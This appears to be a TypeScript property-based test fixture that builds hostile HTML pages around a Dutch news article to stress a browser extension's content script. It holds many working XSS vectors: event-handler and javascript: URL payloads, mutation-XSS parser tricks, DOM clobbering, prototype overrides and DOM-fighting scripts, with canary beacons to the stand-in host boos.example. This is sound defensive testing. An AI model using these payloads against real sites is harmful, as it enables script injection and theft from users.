/**
 * Pages that mean harm, or break everything a content script might lean on, made from a grammar of known
 * attack vectors (handlers in every attribute, script addresses, SVG and MathML, markup that parses anew,
 * clobbered names, overridden built-ins, pages that fight back) around a readable article, so that our whole
 * way runs on each of them.
 *
 * Each payload says who it is when it runs: `__x(7)` in a page's own world, where scripts of a page may
 * run; anywhere else (our isolated world, our pages, a saved file) it asks http://boos.example/ran?7.
 * So a payload that runs more often with us than without us, or a request to that host, is a failure.
 */
import fc from 'fast-check';
import type { Answered } from './site';

export interface HostilePage {
  name: string;
  answer: Answered;
  /** The page does not change itself: after "off" it must serialise as it does without us. */
  still: boolean;
}

/** Handlers that fire without a user, and some that do not: nothing of ours may make them. */
const HANDLERS = [
  'onload',
  'onerror',
  'onfocus',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onscroll',
  'onbeforetoggle',
  'onslotchange',
  'oncopy',
  'oncontentvisibilityautostatechange',
  'onpageshow',
  'onauxclick',
  'ontransitionrun',
  'ontransitionend',
  'onanimationend',
  'onwebkitanimationstart',
  'onloadstart',
  'onloadeddata',
  'oncanplay',
  'onsuspend',
  'onstalled',
  'onended',
  'onscrollend',
  'onresize',
  'onmessage',
  'onhashchange',
  'onpopstate',
  'onbeforeprint',
  'onafterprint',
  'onsecuritypolicyviolation',
  'onselectionchange',
  'onselectstart',
  'onbeforeinput',
  'onbeforematch',
  'onstart',
  'onfinish',
  'onbounce',
  'onend',
  'onrepeat',
  'onformdata',
  'oninvalid',
  'onreset',
];
const TAGS = [
  'img',
  'svg',
  'video',
  'audio',
  'iframe',
  'object',
  'embed',
  'details',
  'input',
  'body',
  'math',
  'marquee',
  'a',
  'span',
  'table',
  'isindex',
  'x-own',
  'picture',
  'source',
  'link',
  'style',
  'template',
  'slot',
  'dialog',
];
const NAMES = [
  'body',
  'head',
  'attributes',
  'children',
  'childNodes',
  'parentNode',
  'nodeName',
  'tagName',
  'textContent',
  'cloneNode',
  'querySelector',
  'querySelectorAll',
  'getAttribute',
  'setAttribute',
  'documentElement',
  'firstChild',
  'nodeType',
  'ownerDocument',
  'contains',
  'remove',
  'title',
  'createElement',
  'URL',
  'baseURI',
  'cookie',
  'implementation',
  'defaultView',
  'classList',
  'style',
  'id',
  'className',
  'innerHTML',
  '__proto__',
  'constructor',
  'toString',
  'chrome',
  'browser',
  'CSS',
  'Highlight',
  'getComputedStyle',
  'location',
];

const run = (id: number): string => `window.__x?__x(${id}):(new Image).src='http://boos.example/ran?${id}'`;
const quoted = (code: string): string => code.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

let payload = 0;
const id = fc.constant(0).map(() => ++payload);

/** On `<body>` these are events of the window: which of two browsers has the focus decides, not we. */
const OF_WINDOW = new Set(['onfocus', 'onscroll', 'onscrollend', 'onresize', 'onselectionchange', 'onmouseover', 'onpointerenter']);
const handlerTag = fc
  .tuple(fc.constantFrom(...TAGS), fc.subarray(HANDLERS, { minLength: 1 }), id, fc.constantFrom('x:y', 'data:,', '//boos.example/none', ''))
  .map(
    ([tag, handlers, n, src]) =>
      `<${tag} ${handlers
        .filter((one) => tag !== 'body' || !OF_WINDOW.has(one))
        .map((one) => `${one}="${quoted(run(n))}"`)
        .join(' ')} src="${src}" href="${src}" tabindex=0>`,
  );

const scriptAddress = fc
  .tuple(
    fc.constantFrom(
      'a href',
      'iframe src',
      'form action',
      'object data',
      'embed src',
      'img src',
      'base href',
      'link rel=canonical href',
      'blockquote cite',
      'a xlink:href',
      'video poster',
      'img srcset',
      'button formaction',
      'area href',
    ),
    fc.constantFrom(
      'javascript:',
      ' java\tscript:',
      'JaVaScRiPt:',
      '&#106;avascript:',
      'data:text/html,<script>',
      'vbscript:',
      'blob:',
      'filesystem:',
      '\u0001javascript:',
    ),
    id,
  )
  // An iframe whose address is a script runs it as the page's own: what counts is that we add nothing.
  .map(([where, scheme, n]) => `<${where}="${scheme}${quoted(run(n))}">Ant Group</${where.split(' ')[0]}>`);

const mutationXss = fc
  .tuple(
    fc.constantFrom(
      (p: string) => `<noscript><p title="</noscript><img src=x onerror=&quot;${p}&quot;>"></noscript>`,
      (p: string) => `<noscript><img src="x:y" onerror="${p}" alt="Ant Group"></noscript><img src="data:,">`,
      (p: string) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${p}&gt;">`,
      (p: string) => `<svg></p><style><a id="</style><img src=1 onerror=${p}>">`,
      (p: string) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${p}">`,
      (p: string) => `<textarea><img src=x onerror="${p}"></textarea><xmp><img src=x onerror="${p}"></xmp>`,
      (p: string) => `<template><img src=x onerror="${p}"><script>${p}</script></template>`,
      (p: string) =>
        `<div data-html="<img src=x onerror='${p}'>" title="<script>${p}</script>" aria-label="</title><svg onload=${p}>">x</div>`,
      (p: string) =>
        `<svg><script>${p}</script><animate onbegin="${p}" attributeName=x dur=1s><set onend="${p}" dur=.01s /><foreignObject><iframe srcdoc="<script>parent.${p}</script>"></iframe></foreignObject></svg>`,
      (p: string) => `<iframe srcdoc="<script>try{${p}}catch(e){}</script><p>Jack Ma"></iframe>`,
      (p: string) => `<div><template shadowrootmode="closed"><p>Jack Ma<img src=x onerror="${p}"></p></template></div>`,
      (p: string) => `<p style="background:url(javascript:${p});behavior:url(x);-moz-binding:url(x)">Ant Group</p>`,
      (p: string) => `<!--><img src=x onerror="${p}">--><![CDATA[<img src=x onerror="${p}">]]>`,
      (p: string) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${p}"></style></annotation-xml></math>`,
      (p: string) => `<svg><desc><style><img src=x onerror="${p}"></style></desc><title><img src=x onerror="${p}"></title></svg>`,
      (p: string) => `<select><template><img src=x onerror="${p}"></template><option>Ant Group</select>`,
      (p: string) => `<table><caption><svg><style><img src=x onerror="${p}"></table>`,
      (p: string) =>
        `<noembed><img src="</noembed><img src=x onerror=&quot;${p}&quot;>"></noembed><noframes><p title="</noframes><img src=x onerror=&quot;${p}&quot;>"></noframes>`,
      (p: string) => `<xml id=x><x><b><img src=x onerror="${p}"></b></x></xml><listing>&lt;img src=x onerror=${p}&gt;</listing>`,
      (p: string) =>
        `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${p}</script></svg>#x"/><a><animate attributeName=href values="javascript:${p}"/><text y=20>Jack Ma</text></a></svg>`,
      (p: string) =>
        `<meta http-equiv=refresh content="600;url=javascript:${p}"><style>@import 'javascript:${p}';*{x:expression(${p})}</style>`,
      (p: string) => `<object data="data:text/html,<script>${p}</script>"><param name=src value="javascript:${p}"></object>`,
      (p: string) =>
        `<input type=image src=x:y onerror="${p}"><video><source src=x:y onerror="${p}"></video><details open ontoggle="${p}">Ma</details>`,
      (p: string) => `<div popover id=q onbeforetoggle="${p}">Jack Ma</div><button popovertarget=q>Ant Group</button>`,
      (p: string) =>
        `<a href="javascript&colon;${p}">Ant</a> <a href="jav&Tab;ascript:${p}">Group</a> <math><maction xlink:href="javascript:${p}" href="javascript:${p}">Jack Ma</maction></math>`,
      (p: string) => `<p>{{constructor.constructor("${p}")()}} \${${p}} &lt;%= ${p} %&gt; &lt;?php ${p} ?&gt; Ant Group</p>`,
      (p: string) => `<p>Jack <!-- ${p} --> Ma &lt;img src=x onerror=${p}&gt; \u202E\u2066Group tnA\u2069\u202C \u0000 \uFFFF </p>`,
    ),
    id,
  )
  .map(([make, n]) => make(quoted(run(n)).replaceAll('&quot;', "'")));

const clobbering = fc
  .tuple(fc.constantFrom(...NAMES), fc.constantFrom(...NAMES), fc.boolean())
  .map(
    ([form, field, also]) =>
      `<form name="${form}" id="${field}"><input name="${field}"><input name="${form}"><img name="${field}">${also ? `<a id="${form}"></a><a id="${form}" name="${field}" href="x:y"></a>` : ''}</form>`,
  );

/** Scripts of the page that take its own world apart: ours must not lean on it. */
const OVERRIDES = [
  'Object.prototype.kind="paywall";Object.prototype.then=function(f){};Object.prototype.ok=true',
  'Array.prototype[Symbol.iterator]=function*(){throw 1};Array.prototype.push=()=>{throw 2};Array.prototype.map=()=>null',
  'Element.prototype.getBoundingClientRect=()=>{throw 3};window.getComputedStyle=()=>null;Node.prototype.cloneNode=()=>null;Document.prototype.createTreeWalker=()=>null',
  'String.prototype.split=()=>[];RegExp.prototype.exec=()=>null;JSON.parse=()=>({});Promise.prototype.then=()=>{}',
  'window.MutationObserver=null;window.AbortController=null;window.Highlight=null;CSS.highlights.set=()=>{throw 4};customElements.define=null',
  'Object.defineProperty(Node.prototype,"textContent",{get(){throw 5}});Object.defineProperty(Element.prototype,"attributes",{get(){return null}});EventTarget.prototype.addEventListener=()=>{}',
  'Object.freeze(Object.prototype);Object.freeze(Array.prototype);Object.freeze(document);Object.preventExtensions(window)',
  'customElements.define("x-own",class extends HTMLElement{constructor(){super();}connectedCallback(){this.n=1;throw 6}attributeChangedCallback(){throw 7}cloneNode(){throw 8}})',
];

/** Scripts that fight: they undo what we do, or act on it. */
const FIGHTERS = [
  'new MutationObserver(all=>{for(const one of all){for(const n of one.addedNodes)if(!n.hasAttribute?.("data-own")&&n.nodeType===1)n.remove();if(one.type==="attributes"&&/^data-|^[a-z]{8,}$/.test(one.attributeName))one.target.removeAttribute(one.attributeName)}}).observe(document,{subtree:true,childList:true,attributes:true})',
  'setInterval(()=>CSS.highlights.clear(),40)',
  'setInterval(()=>{document.querySelectorAll(".wall").forEach(e=>e.remove());const d=document.createElement("div");d.className="wall";d.dataset.own="";d.style.cssText="position:fixed;inset:0;background:#fffc;z-index:9999";d.textContent="Schrijf u in voor onze nieuwsbrief: vul uw e-mailadres in";document.body?.append(d)},100)',
  'setInterval(()=>{for(const p of document.querySelectorAll("article p")){const t=p.cloneNode(true);p.replaceWith(t)}},100)',
  'for(const e of ["focusin","pointermove","keydown","scroll","selectionchange"])addEventListener(e,x=>{x.stopImmediatePropagation();x.preventDefault?.()},true)',
  'setInterval(()=>{document.body.style.overflow=document.body.style.overflow?"":"hidden";history.replaceState(0,"","?"+Math.random())},50)',
  'const f=()=>{const s=new Set;for(const e of document.querySelectorAll("*"))for(const a of e.attributes)s.add(a.name);window.__seen=s};setInterval(f,100)',
  'document.documentElement.addEventListener("DOMNodeRemoved",()=>{},true);setTimeout(()=>document.body?.replaceWith(document.body.cloneNode(true)),150)',
];

const meta = fc.constantFrom(
  '<script type="application/ld+json">{"@type":"NewsArticle","headline":{"a":1},"author":[[[["x"]]],null,7],"datePublished":{},"__proto__":{"polluted":1},"url":"javascript:1"}</script>',
  '<script type="application/ld+json">{"@type":["NewsArticle",{}],"headline":"</script><script>1//","articleBody":5',
  `<script type="application/ld+json">${'['.repeat(5000)}${']'.repeat(5000)}</script>`,
  '<meta property="og:url" content="data:text/html,x"><meta property="og:locale" content="../../__proto__"><link rel=canonical href="javascript:1">',
  '<meta property="article:published_time" content="99999999-99-99T99:99:99Z"><time datetime="-1">31 februari 20211</time>',
  '<meta name="author" content="&lt;img src=x onerror=1&gt; __proto__ constructor">',
  '<base href="http://boos.example/base/"><html lang="x-klingon-∞"><html lang="__proto__">',
  '<link rel=canonical href="http://[::1"><meta charset=utf-16><meta http-equiv="Content-Language" content="xx,,,--">',
);

const HEADERS: Record<string, string>[] = [
  {},
  {},
  { 'content-security-policy': "default-src 'none'" },
  { 'content-security-policy': "require-trusted-types-for 'script'; trusted-types 'none'" },
  { 'content-security-policy': 'sandbox allow-scripts' },
  { 'content-security-policy': "default-src 'self' 'unsafe-inline' 'unsafe-eval' data: *; style-src 'none'" },
  { 'x-frame-options': 'DENY', 'cross-origin-opener-policy': 'same-origin', 'cross-origin-embedder-policy': 'require-corp' },
];

const PARAGRAPHS = [
  'Jack Ma bouwde met Ant Group een betaalbedrijf dat in heel China wordt gebruikt, en de beursgang van dat bedrijf ging op het laatste moment niet door.',
  'De Chinese centrale bank wil dat het bedrijf meer eigen kapitaal aanhoudt voor elke lening die het via Alipay verstrekt aan zijn klanten.',
  'Volgens mensen die bij de gesprekken waren, liet Ma weten dat hij onderdelen van het bedrijf aan de staat wilde overdragen.',
  'Ook in de Verenigde Staten liggen Facebook en Google onder het vergrootglas van toezichthouders, die hun macht te groot vinden worden.',
  'Het concern verlaagde daarop de kredietlimieten van een deel van zijn klanten en haalde een reeks spaarproducten uit zijn app.',
  'Analisten verwachten dat de waarde van het bedrijf daardoor met miljarden zal dalen, maar niemand durft er een bedrag aan te verbinden.',
];

const frame = (head: string, body: string): string =>
  `<!doctype html><html lang="nl"><head><meta charset="utf-8"><title>Ant Group onder druk van de toezichthouder</title><script>window.__ran='';window.__x=n=>{__ran+=n+' '}</script>${head}</head><body>${body}</body></html>`;

/** One page of each draw: an article with attacks between and inside its paragraphs. */
export const hostilePage: fc.Arbitrary<HostilePage> = fc
  .record({
    attacks: fc.array(fc.oneof(handlerTag, scriptAddress, mutationXss, clobbering), { minLength: 3, maxLength: 12 }),
    head: fc.array(meta, { maxLength: 2 }),
    override: fc.option(fc.constantFrom(...OVERRIDES), { freq: 2 }),
    fighter: fc.option(fc.constantFrom(...FIGHTERS), { freq: 2 }),
    headers: fc.constantFrom(...HEADERS),
    inside: fc.boolean(),
    unclosed: fc.boolean(),
  })
  .map(({ attacks, head, override, fighter, headers, inside, unclosed }) => {
    const scripts = [override, fighter].filter(Boolean).map((code) => `<script>try{${code}}catch(e){}</script>`);
    const text = PARAGRAPHS.map((words, index) => {
      const attack = attacks[index] ?? '';
      return inside ? `<p>${words.slice(0, 40)}${attack}${words.slice(40)}</p>` : `<p>${words}</p>${attack}`;
    });
    const rest = attacks.slice(PARAGRAPHS.length).join('');
    const html = frame(`${head.join('')}${scripts.join('')}`, `<article><h1>Ant Group onder druk</h1>${text.join('')}</article>${rest}`);
    return {
      name: 'generated',
      still: !fighter && !override,
      answer: { body: unclosed ? html.slice(0, -20 - (html.length % 37)) : html, headers },
    };
  });

const article = (): string => `<article><h1>Ant Group onder druk</h1>${PARAGRAPHS.map((words) => `<p>${words}</p>`).join('')}</article>`;

/** Pages whose trouble is their size or their kind; each named, each once. */
export const namedHostilePages = (): HostilePage[] => {
  const page = (name: string, body: string, type?: string, still = true): HostilePage => ({
    name,
    still,
    answer: { body, ...(type ? { type } : {}) },
  });
  const xml = '<?xml version="1.0" encoding="utf-8"?>';
  return [
    page('100,000 nodes', frame('', `${article()}${'<i>a</i>'.repeat(50_000)}`)),
    page('3,000 levels', frame('', `${'<div>'.repeat(3_000)}${article()}`)),
    page(
      'a deep article',
      frame(
        '',
        `<article><h1>Ant Group onder druk</h1>${PARAGRAPHS.map((words) => `${'<span>'.repeat(400)}<p>${words}`).join('')}</article>`,
      ),
    ),
    page('one text node of 5 MB', frame('', `${article()}<p>${'Ant Group en Jack Ma. '.repeat(240_000)}</p>`)),
    page('10 MB of paragraphs', frame('', `<article><h1>Ant Group onder druk</h1>${`<p>${PARAGRAPHS[0]}</p>`.repeat(62_000)}</article>`)),
    page('an attribute of 2 MB', frame('', `<div class="${'newsletter '.repeat(190_000)}">Nieuwsbrief</div>${article()}`)),
    page('20,000 links', frame('', `${article()}<ul>${'<li><a href="/a">Lees ook dit</a></li>'.repeat(20_000)}</ul>`)),
    page('5,000 tables in tables', frame('', `${article()}${'<table><tr><td>'.repeat(1_500)}`)),
    page(
      '5,000 fixed layers',
      frame('', `${article()}${'<div style="position:fixed;inset:0;z-index:9">Abonneer u nu</div>'.repeat(5_000)}`),
    ),
    page('2,000 open dialogs', frame('', `${article()}${'<dialog open>Cookies?</dialog>'.repeat(2_000)}`)),
    page('300 frames', frame('', `${article()}${'<iframe srcdoc="<p>x"></iframe>'.repeat(300)}`)),
    page('empty', ''),
    page('only white space', ' \n\t '),
    page('a comment', '<!-- Ant Group -->'),
    page('cut in a tag', frame('', article()).slice(0, 700)),
    page('frameset', '<frameset cols="50%,50%"><frame src="about:blank"><frame src="javascript:1"></frameset>'),
    page('plain text', 'Jack Ma en Ant Group', 'text/plain'),
    page('JSON', '{"Jack Ma":"Ant Group"}', 'application/json'),
    page(
      'XHTML',
      `${xml}<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="nl"><head><title>Ant</title></head><body>${article()}</body></html>`,
      'application/xhtml+xml',
    ),
    page('broken XHTML', `${xml}<html xmlns="http://www.w3.org/1999/xhtml"><body>${article()}<p></body>`, 'application/xhtml+xml'),
    page('XML', `${xml}<rss><item><title>Ant Group</title>${article()}</item></rss>`, 'text/xml'),
    page(
      'SVG document',
      `${xml}<svg xmlns="http://www.w3.org/2000/svg"><script>window.x=1</script><text y="20">Jack Ma en Ant Group</text></svg>`,
      'image/svg+xml',
    ),
    page(
      'document.open again and again',
      frame(
        '<script>let n=0;const t=setInterval(()=>{if(++n>8)return clearInterval(t);document.open();document.write("<p>Ant Group "+n);document.close()},120)</script>',
        article(),
      ),
      undefined,
      false,
    ),
    page(
      'rewritten ten times a second',
      frame('<script>setInterval(()=>{document.querySelector("article").innerHTML+=""},100)</script>', article()),
      undefined,
      false,
    ),
    page('no body', frame('<script>addEventListener("load",()=>document.body.remove())</script>', article()), undefined, false),
    page(
      'no documentElement',
      frame('<script>addEventListener("load",()=>setTimeout(()=>document.documentElement.remove(),60))</script>', article()),
      undefined,
      false,
    ),
    page('zeros and controls', frame('', `${article()}<p>\u0000\u0001\u0008\uFFFE \uD800 Ant\u0000 Group</p>`)),
    page('right to left', frame('', article()).replace('lang="nl"', 'lang="ar" dir="rtl"')),
  ];
};

/** `count` generated pages, the same for the same seed. */
export function hostilePages(seed: number, count: number): HostilePage[] {
  payload = 0;
  return fc.sample(hostilePage, { seed, numRuns: count }).map((page, index) => ({ ...page, name: `seed ${seed}, page ${index}` }));
}
